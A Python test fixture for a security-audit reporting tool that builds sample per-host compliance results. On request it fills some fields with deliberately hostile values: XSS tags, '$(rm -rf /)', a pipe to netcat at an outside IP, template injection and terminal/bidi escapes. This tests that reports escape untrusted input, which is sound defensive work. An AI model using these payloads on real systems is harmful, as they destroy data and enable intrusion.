"""A realistic audit run over the report tests' catalog, with hostile values where asked."""

from __future__ import annotations

from pathlib import Path

from secops.audit.results import (
    AuditRun,
    CheckResult,
    ControlResult,
    Evidence,
    HostResult,
    Verdict,
)
from secops.catalog.model import Catalog, load_catalog

CATALOG_DIR = Path(__file__).resolve().parents[2] / "files" / "report" / "catalog"

# values a host could hand back: markup, shell, terminal escapes, bidi override, NUL,
# undecodable bytes (already U+FFFD), a template expression, a lone surrogate
HOSTILE_SEEN = "<script>alert('seen')</script>$(rm -rf /); `reboot` && echo \"x\" | nc 1.2.3.4"
HOSTILE_SOURCE = "/etc/login.defs:12 <img src=x onerror=alert(1)>"
HOSTILE_EXPECTED = "<= 90 ]]> & {{ 7*7 }}"
HOSTILE_MESSAGE = "banner: \x1b[31mWARNING\x1b[0m \u202egnp.exe \x00 \ufffd\ufffd \udc80 end"
HOSTILE_HOST = "<b>evil</b>&\"host'"

# check id -> (status, seen, source, expected, message)
Outcome = tuple[str, str, str, str, str]
WEB: dict[str, Outcome] = {
    "pass_max_days": ("pass", "90", "/etc/login.defs:165", "<= 90", ""),
    "pam_pwquality_minlen": ("pass", "12", "/etc/security/pwquality.conf:11", ">= 12", ""),
    "faillock_deny": (
        "pass",
        "deny=5 unlock_time=600",
        "/etc/pam.d/common-auth:17",
        "deny <= 5",
        "",
    ),
    "shell_tmout": ("fail", "(unset)", "/etc/profile, /etc/profile.d/*.sh", "<= 600", ""),
    "sshd_permit_root_login": ("pass", "no", "sshd -T", "no", ""),
    "auditd_enabled": ("pass", "active (enabled)", "service auditd status", "running", ""),
    "audit_log_retention": (
        "pass",
        "rotate 26 weekly",
        "/etc/logrotate.d/rsyslog:3",
        ">= 180 days",
        "",
    ),
}
DB: dict[str, Outcome] = {
    "pass_max_days": ("fail", "99999", "/etc/login.defs:165", "<= 90", ""),
    "pam_pwquality_minlen": ("fail", "8", "/etc/security/pwquality.conf:11", ">= 12", ""),
    "faillock_deny": ("fail", "(no pam_faillock)", "/etc/pam.d/common-auth", "deny <= 5", ""),
    "shell_tmout": ("fail", "1800", "/etc/profile.d/tmout.sh:1", "<= 600", ""),
    "sshd_permit_root_login": ("fail", "yes", "sshd -T", "no", ""),
    "auditd_enabled": (
        "error",
        "",
        "",
        "",
        "auditctl -s: Operation not permitted (audit subsystem belongs to the host)",
    ),
    "audit_log_retention": (
        "na",
        "",
        "",
        "",
        "logs forwarded: retention is judged on the log store",
    ),
}
APP: dict[str, Outcome] = {
    **WEB,
    "pass_max_days": ("fail", HOSTILE_SEEN, HOSTILE_SOURCE, HOSTILE_EXPECTED, HOSTILE_MESSAGE),
    "sshd_permit_root_login": ("fail", "prohibit-password", "sshd -T", "no", ""),
}


def catalog() -> Catalog:
    """The report tests' catalog."""
    return load_catalog(CATALOG_DIR)


def _host(name: str, address: str, outcomes: dict[str, Outcome], cat: Catalog) -> HostResult:
    checks = [
        CheckResult(
            check_id,
            status,  # type: ignore[arg-type]
            [Evidence(seen, source, expected)] if seen or source else [],
            message,
        )
        for check_id, (status, seen, source, expected, message) in outcomes.items()
    ]
    by_id = {c.check_id: c.status for c in checks}
    controls = []
    for control in cat.controls_at(3):
        ids = [c.id for c in cat.checks_of(control.id, 3)]
        controls.append(ControlResult(control.id, _verdict([by_id[i] for i in ids]), ids))
    judged = [c for c in controls if c.verdict not in ("na", "manual")]
    points = sum({"compliant": 1.0, "partial": 0.5}.get(c.verdict, 0.0) for c in judged)
    return HostResult(
        name=name,
        address=address,
        reachable=True,
        os="Debian GNU/Linux 12 (bookworm)",
        as_root=True,
        started="2025-03-14T02:00:04Z",
        seconds=3.4,
        score=round(100 * points / len(judged), 1) if judged else None,
        checks=checks,
        controls=controls,
    )


def _verdict(statuses: list[str]) -> Verdict:
    if not statuses:
        return "manual"
    judged = [s for s in statuses if s in ("pass", "fail")]
    if not judged:
        return "manual" if "error" in statuses else "na"
    if all(s == "pass" for s in judged):
        return "compliant"
    return "noncompliant" if all(s == "fail" for s in judged) else "partial"


def sample_run(*, hostile: bool = False) -> AuditRun:
    """Four hosts at level 3: a good one, a poor one, one not reached, and one with odd values."""
    cat = catalog()
    hosts = [
        _host("web01", "10.20.1.11", WEB, cat),
        _host("db01", "10.20.2.21", DB, cat),
        _host("app01", "10.20.1.12", APP if hostile else WEB, cat),
        HostResult(
            name="lab04",
            address="10.20.3.31",
            reachable=False,
            error="ssh: connect to host 10.20.3.31 port 22: Connection timed out (10 s)",
        ),
    ]
    if hostile:
        evil = _host(HOSTILE_HOST, "10.20.9.9", APP, cat)
        evil.os = HOSTILE_SEEN
        hosts.append(evil)
    scores = [h.score for h in hosts if h.score is not None]
    return AuditRun(
        level=3,
        tool_version="0.1.0",
        catalog_version=cat.version,
        started="2025-03-14T02:00:00Z",
        finished="2025-03-14T02:00:19Z",
        inventory="inventories/prod/hosts.yml",
        hosts=hosts,
        fleet_score=round(sum(scores) / len(scores), 1) if scores else None,
    )
